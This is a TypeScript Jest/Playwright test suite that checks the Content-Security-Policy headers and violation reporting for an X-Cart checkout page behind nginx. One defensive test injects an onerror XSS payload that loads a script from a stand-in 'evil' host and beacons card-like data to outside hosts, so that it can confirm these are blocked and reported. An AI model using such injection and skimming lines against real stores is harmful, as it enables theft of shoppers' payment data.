import { readFileSync } from "node:fs";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { type Browser, chromium } from "playwright-core";
import { z } from "zod";
import { agreedPage } from "../../../domain/payment-page/agreed.ts";
import { nodePaymentPage } from "../../../domain/payment-page/node.ts";
import type { NodeSettings } from "../../../host/node.ts";
import { program } from "../../support/emulators/programs.ts";
import { ask } from "./ask.ts";
import { nodeSettings, played, type WebNode, webNode } from "./node.ts";

const agreement = { why: "Cards are typed there", approvedBy: "ada@example.com", approvedOn: "2026-11-30" };
const agreed = agreedPage.parse({
  scripts: [
    { source: "https://js.stripe.com/*", content: "may change", ...agreement },
    { inline: "X-Cart's settings", content: `sha256-${"a".repeat(43)}=`, ...agreement },
    // More than nginx's files take in one text.
    ...Array.from({ length: 50 }, (_, i) => ({
      source: `https://cdn-${i}.example.com/${"folder/".repeat(8)}${i}.js`,
      content: "may change",
      ...agreement,
    })),
  ],
});
const told = (mode: "report" | "enforce") => ({ paymentPage: nodePaymentPage(agreed, { mode, shoppers: 3, ignore: [] }) });

const reportOnly = "content-security-policy-report-only";
const enforced = "content-security-policy";

describe.each([
  ["report", reportOnly, enforced],
  ["enforce", enforced, reportOnly],
] as const)("in %s mode", (mode, header, other) => {
  let node: WebNode;
  beforeAll(async () => {
    node = await webNode(nodeSettings(told(mode)));
  });
  afterAll(async () => await node.stop());

  test.each(["/?target=checkout", "/?target=checkoutPayment&order_id=5", "/?a=b&target=checkout_payment", "/cart.php?target=checkout"])(
    "%s has its own policy, whole",
    async (path) => {
      const { headers } = await ask(node.nginx.port, { path });
      expect(headers[header]).toBe(told(mode).paymentPage.policy.replaceAll("$host", "shop.example.com"));
      expect(headers[other]).toBeUndefined();
    },
  );

  test("names the store as it was asked for", async () => {
    const { headers } = await ask(node.nginx.port, { path: "/?target=checkout", host: "www.shop.example.com" });
    expect(String(headers[header])).toContain("default-src 'self'; script-src https://js.stripe.com");
  });

  test.each(["/", "/?target=checkoutSuccess", "/?target=cart", "/admin/?target=order"])(
    "%s has the general one, as a wish",
    async (path) => {
      const { headers } = await ask(node.nginx.port, { path });
      expect(headers[reportOnly]).toMatch(/^default-src 'self'; script-src 'self'.*; report-uri \/csp-report$/);
      expect(headers[enforced]).toBeUndefined();
    },
  );
});

describe("a shopper's browser", () => {
  let node: WebNode;
  let browser: Browser;
  beforeAll(async () => {
    // The browser itself connects, in the load balancer's place.
    const settings: NodeSettings = nodeSettings({ ...told("report"), balancerBlocks: [`${played.node}/32`] });
    node = await webNode(settings);
    browser = await startBrowser(node);
  });
  afterAll(async () => {
    await browser.close();
    await node.stop();
  });

  /** Finds nginx by the store's name, and no one else. The Reporting API waits a minute without the flag of its own tests. */
  const startBrowser = async ({ nginx }: WebNode): Promise<Browser> =>
    await chromium.launch({
      executablePath: await program("chromium"),
      args: [
        `--host-resolver-rules=MAP shop.example.com:443 127.0.0.1:${nginx.port}, MAP * ~NOTFOUND`,
        ...["--ignore-certificate-errors", "--short-reporting-delay"],
      ],
    });

  /** The lines about these, once there are some. */
  async function reported(...blocked: readonly string[]): Promise<z.infer<typeof line>[]> {
    for (;;) {
      const lines = readFileSync(node.nginx.place.reportLog, "utf8").split("\n").slice(0, -1);
      const all = lines.map((text) => line.parse(JSON.parse(text)));
      if (blocked.every((one) => all.some((found) => found.blocked === one))) return all.filter((found) => blocked.includes(found.blocked));
      await sleep(100);
    }
  }

  test("tells us what goes beyond the policy, and loads what was agreed in silence", async () => {
    const page = await browser.newPage();
    // PHP's echo is JSON, in which an attribute can stand and the end of an element cannot.
    const load = (address: string) => `document.head.append(Object.assign(document.createElement('script'),{src:'${address}'}))`;
    const asked = [
      load("https://js.stripe.com/v3/"),
      load("https://evil.example/a.js?card=1"),
      "Object.assign(document.createElement('img'),{src:'https://pixel.example/4111?b'})",
      "fetch('https://beacon.example/x')",
    ];
    const html = `<img src=x: onerror=${asked.join(";")}>`;
    await page.goto(`https://shop.example.com/?target=checkout&do=page&html=${encodeURIComponent(html)}`);
    const expected = ["https://evil.example/a.js", "https://pixel.example/4111", "https://beacon.example/x"];
    const found = await reported(...expected);
    expect(new Map(found.map(({ blocked, ...rest }) => [blocked, rest]))).toEqual(
      new Map(
        expected.map((blocked, i) => [
          blocked,
          {
            path: "/csp-report/payment-page",
            directive: ["script-src-elem", "img-src", "connect-src"][i],
            page: "https://shop.example.com/",
          },
        ]),
      ),
    );
    expect(readFileSync(node.nginx.place.reportLog, "utf8")).not.toContain("stripe");
    await page.close();
  });

  test("is understood in the Reporting API's form as well", async () => {
    const page = await browser.newPage();
    const headers = {
      "Reporting-Endpoints": 'page="https://shop.example.com/csp-report/payment-page"',
      [reportOnly]: "img-src 'self'; report-to page",
    };
    await page.route("https://shop.example.com/", async (route) => {
      await route.fulfill({ status: 200, contentType: "text/html", headers, body: "<img src=https://later.example/1?x>" });
    });
    await page.goto("https://shop.example.com/");
    expect(await reported("https://later.example/1")).toEqual([
      { path: "/csp-report/payment-page", directive: "img-src", blocked: "https://later.example/1", page: "https://shop.example.com/" },
    ]);
    await page.close();
  });
});

const line = z.object({ path: z.string(), directive: z.string(), blocked: z.string(), page: z.string() });
